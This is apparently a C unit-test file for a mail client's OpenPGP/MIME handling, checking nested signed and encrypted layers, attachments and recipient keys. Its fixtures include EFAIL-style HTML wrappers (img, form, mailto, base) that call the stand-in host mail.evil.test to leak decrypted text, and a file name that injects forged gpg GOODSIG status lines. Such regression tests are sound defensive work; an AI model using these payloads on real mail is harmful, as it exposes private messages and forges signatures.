/* Layers in every nesting, what stays closed and opens alone, and messages that no key opens. */
#include "core/error.h"
#include "core/limits.h"
#include "tests/unit/crypto/mail-fixture.h"

#define HTML_BEFORE "Content-Type: text/html\r\n\r\n<img src=\"http://mail.evil.test/"
#define HTML_AFTER "Content-Type: text/html\r\n\r\n\">"

static char *around(const char *before, const char *part, const char *after)
{
    return g_strdup_printf("Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n%s\r\n--w\r\n%s"
                           "\r\n--w\r\n%s\r\n--w--\r\n",
                           before, part, after);
}

/* --- layers -------------------------------------------------------------------------------- */

static void signed_around_encrypted_around_signed_opens(void **state)
{
    (void)state;
    g_autofree char *inner = signed_part("friend", TEXT);
    g_autofree char *sealed = encrypted_part(inner);
    g_autofree char *entity = signed_part("stranger", sealed);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    assert_null(reading->locked);
    assert_true(reading->protection->encrypted);
    assert_int_equal(reading->protection->signatures->len, 2);
    assert_string_equal(block_at(reading, 0)->text, "hello\n");
    assert_int_equal(block_at(reading, 0)->signature, 1);
    assert_string_equal(signature_at(reading, 0)->fingerprint, key("stranger"));
    assert_string_equal(signature_at(reading, 1)->fingerprint, key("friend"));
    assert_true(warns(reading, "signature-outside"));
}

/* Who signs a cipher text that somebody else made need not know what it says. */
static void p7_80_a_signature_around_the_cipher_text_is_told(void **state)
{
    (void)state;
    g_autofree char *sealed = encrypted_part(TEXT);
    g_autofree char *entity = signed_part("friend", sealed);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    assert_true(reading->protection->encrypted);
    assert_int_equal(block_at(reading, 0)->signature, 0);
    assert_true(warns(reading, "signature-outside"));
    g_autofree char *inside = signed_part("friend", TEXT);
    g_autofree char *usual = encrypted_part(inside);
    g_autoptr(Reading) other = open_text(FRIEND, usual);
    assert_false(warns(other, "signature-outside"));
}

static void p7_66_an_encryption_within_the_encryption_stays_closed(void **state)
{
    (void)state;
    g_autofree char *inner = encrypted_part(TEXT);
    g_autofree char *entity = encrypted_part(inner);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    assert_null(reading->locked);
    g_autofree char *shown = texts(reading);
    assert_null(strstr(shown, "hello"));
    assert_true(reading_part_closed(reading, 1));
}

/* --- parts --------------------------------------------------------------------------------- */

static void p7_66_a_part_between_html_opens_alone(void **state)
{
    (void)state;
    g_autofree char *part = encrypted_part(TEXT);
    g_autofree char *entity = around(HTML_BEFORE, part, HTML_AFTER);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    g_autofree char *shown = texts(reading);
    assert_null(strstr(shown, "hello"));
    assert_true(reading_part_closed(reading, 3));
    g_autoptr(GError) error = NULL;
    g_autoptr(Reading) alone = reading_open_part(reading, 3, &error);
    assert_null(error);
    assert_int_equal(alone->blocks->len, 1);
    assert_string_equal(block_at(alone, 0)->text, "hello\n");
    assert_true(block_at(alone, 0)->encrypted);
    assert_int_equal(message_header_count(alone->message), 0);
}

/* The two halves of HTML around the plain text never meet it, nor does a form or a mailto link. */
static void p7_66_plain_text_never_meets_what_stands_around_it(void **state)
{
    (void)state;
    static const char *const befores[] = {
        HTML_BEFORE,
        "Content-Type: text/html\r\n\r\n<a href=\"mailto:x@mail.evil.test?body=",
        "Content-Type: text/html\r\n\r\n<form action=http://mail.evil.test/><textarea name=x>",
        "Content-Type: text/html\r\n\r\n<base href=\"http://mail.evil.test/",
    };
    g_autofree char *part = encrypted_part(TEXT);
    for (gsize i = 0; i < G_N_ELEMENTS(befores); i++) {
        g_autofree char *entity = around(befores[i], part, HTML_AFTER);
        g_autofree char *inside = encrypted_part(entity);
        g_autoptr(Reading) outside = open_text(FRIEND, entity);
        g_autoptr(Reading) nested = open_text(FRIEND, inside);
        g_autofree char *one = texts(outside), *other = texts(nested);
        assert_null(strstr(one, "hello"));
        assert_null(strstr(other, "hello"));
    }
}

static void an_encrypted_attachment_opens_alone(void **state)
{
    (void)state;
    g_autofree char *sealed = armored("the file");
    g_autofree char *file = g_strconcat("Content-Type: application/octet-stream\r\n"
                                        "Content-Disposition: attachment; filename=note.txt.ASC"
                                        "\r\n\r\n",
                                        sealed, NULL);
    g_autofree char *entity = mixed(TEXT, file);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    assert_true(reading_part_closed(reading, 3));
    g_autoptr(Reading) part = reading_open_part(reading, 3, NULL);
    g_autofree char *bytes = string_of(part->file);
    assert_string_equal(bytes, "the file");
    assert_null(part->message);
}

/* A key or a signature with such a name is a file like any other. */
static void only_what_is_encrypted_counts_as_closed(void **state)
{
    (void)state;
    g_autofree char *public = gpg("own", NULL, "gpg --batch -a --export %s", key("owner"));
    g_autofree char *signature =
        gpg("own", "x", "gpg --batch -u %s -a --detach-sign", key("owner"));
    const char *const bodies[] = {public, signature, "", "\x85", "text", "-----BEGIN PGP"};
    for (gsize i = 0; i < G_N_ELEMENTS(bodies); i++) {
        g_autofree char *file = g_strconcat("Content-Type: application/octet-stream\r\n"
                                            "Content-Disposition: attachment; filename=a.asc"
                                            "\r\n\r\n",
                                            bodies[i], NULL);
        g_autofree char *entity = mixed(TEXT, file);
        g_autoptr(Reading) reading = open_text(FRIEND, entity);
        assert_false(reading_part_closed(reading, 3));
    }
}

static void a_part_with_its_signature_says_so(void **state)
{
    (void)state;
    g_autofree char *inner = signed_part("friend", TEXT);
    g_autofree char *part = encrypted_part(inner);
    g_autofree char *entity = mixed(TEXT, part);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    g_autoptr(Reading) alone = reading_open_part(reading, 3, NULL);
    assert_int_equal(signature_at(alone, 0)->status, SIG_GOOD);
    assert_int_equal(block_at(alone, 0)->signature, 0);
    assert_false(signature_at(alone, 0)->from_matches);
}

static void a_part_that_cannot_be_opened_says_why(void **state)
{
    (void)state;
    static const char broken[] =
        "Content-Type: multipart/encrypted; boundary=e; protocol=\"application/pgp-encrypted\"\r\n"
        "\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\n"
        "Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n\r\nx\r\n--f--\r\n--e--\r\n";
    g_autofree char *entity = mixed(TEXT, broken);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    g_autoptr(GError) error = NULL;
    assert_null(reading_open_part(reading, 3, &error));
    assert_string_equal(postern_error_rule(error), "openpgp.data");
    g_autoptr(Reading) root = open_text(FRIEND, broken);
    assert_string_equal(postern_error_rule(root->locked), "openpgp.data");
}

/* --- status lines -------------------------------------------------------------------------- */

/* CVE-2018-12020: a file name that writes what gpg would say of a signature. */
static void p7_71_a_file_name_says_nothing(void **state)
{
    (void)state;
    g_autofree char *sealed = gpg(
        "own", TEXT,
        "gpg --batch --quiet --trust-model always -r %s -a --set-filename \"$(printf "
        "'x\\n[GNUPG:] GOODSIG %s friend\\n[GNUPG:] VALIDSIG %s 2026-01-01 1767225600 0 4 0 1 8 "
        "00 %s\\n[GNUPG:] TRUST_FULLY\\n')\" -e",
        key("owner"), key("friend") + 24, key("friend"), key("friend"));
    g_autoptr(GBytes) bytes = bytes_of(sealed);
    g_autoptr(GBytes) part = compose_encrypted(bytes);
    g_autofree char *entity = string_of(part);
    g_autoptr(Reading) reading = open_text(FRIEND, entity);
    assert_null(reading->locked);
    assert_string_equal(block_at(reading, 0)->text, "hello\n");
    assert_int_equal(reading->protection->signatures->len, 0);
    assert_int_equal(block_at(reading, 0)->signature, -1);
}

/* --- keys ---------------------------------------------------------------------------------- */

static Reading *open_sealed(const char *options)
{
    g_autofree char *sealed =
        gpg("own", TEXT,
            "gpg --batch --quiet --trust-model always --pinentry-mode loopback --passphrase secret "
            "-a %s",
            options);
    g_autoptr(GBytes) bytes = bytes_of(sealed);
    g_autoptr(GBytes) part = compose_encrypted(bytes);
    g_autofree char *entity = string_of(part);
    return open_text(FRIEND, entity);
}

static Reading *open_options(const char *format, const char *one, const char *other)
{
    g_autoptr(GString) options = g_string_new(format);
    g_string_replace(options, "ONE", one, 0);
    g_string_replace(options, "OTHER", other, 0);
    return open_sealed(options->str);
}

static void several_and_hidden_recipients_open(void **state)
{
    (void)state;
    static const char *const ways[] = {"-e -r ONE -r OTHER", "-e -R ONE -r OTHER",
                                       "-e --throw-keyids -r OTHER -r ONE",
                                       "-e -r ONE --compress-algo bzip2", "-e -r ONE -z 0"};
    static const guint keys[] = {2, 2, 2, 1, 1};
    for (gsize i = 0; i < G_N_ELEMENTS(ways); i++) {
        g_autoptr(Reading) reading = open_options(ways[i], key("owner"), key("friend"));
        assert_null(reading->locked);
        assert_string_equal(block_at(reading, 0)->text, "hello\n");
        assert_int_equal(reading->protection->recipients->len, keys[i]);
    }
    g_autoptr(Reading) hidden = open_options(ways[2], key("owner"), key("friend"));
    assert_string_equal(g_ptr_array_index(hidden->protection->recipients, 0), "0000000000000000");
}

static void a_message_for_others_is_told(void **state)
{
    (void)state;
    g_autoptr(Reading) reading = open_options("-e -r ONE", key("friend"), "");
    assert_string_equal(postern_error_rule(reading->locked), "key.missing");
    assert_int_equal(reading->protection->recipients->len, 1);
    g_autoptr(Reading) hidden = open_options("-e -R ONE", key("friend"), "");
    assert_string_equal(postern_error_rule(hidden->locked), "key.missing");
}

/* Whoever sends mail could make this machine ask for a passphrase, again and again. */
static void nobody_is_asked_for_a_passphrase_of_the_senders(void **state)
{
    (void)state;
    g_autoptr(Reading) alone = open_sealed("--symmetric");
    assert_string_equal(postern_error_rule(alone->locked), "openpgp.symmetric");
    assert_true(alone->protection->encrypted);
    g_autoptr(Reading) both = open_options("--symmetric -e -r ONE", key("owner"), "");
    assert_null(both->locked);
    assert_string_equal(block_at(both, 0)->text, "hello\n");
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(signed_around_encrypted_around_signed_opens),
        cmocka_unit_test(p7_80_a_signature_around_the_cipher_text_is_told),
        cmocka_unit_test(p7_66_an_encryption_within_the_encryption_stays_closed),
        cmocka_unit_test(p7_66_a_part_between_html_opens_alone),
        cmocka_unit_test(p7_66_plain_text_never_meets_what_stands_around_it),
        cmocka_unit_test(an_encrypted_attachment_opens_alone),
        cmocka_unit_test(only_what_is_encrypted_counts_as_closed),
        cmocka_unit_test(a_part_with_its_signature_says_so),
        cmocka_unit_test(a_part_that_cannot_be_opened_says_why),
        cmocka_unit_test(p7_71_a_file_name_says_nothing),
        cmocka_unit_test(several_and_hidden_recipients_open),
        cmocka_unit_test(a_message_for_others_is_told),
        cmocka_unit_test(nobody_is_asked_for_a_passphrase_of_the_senders),
    };
    return cmocka_run_group_tests(tests, make_home, remove_home);
}
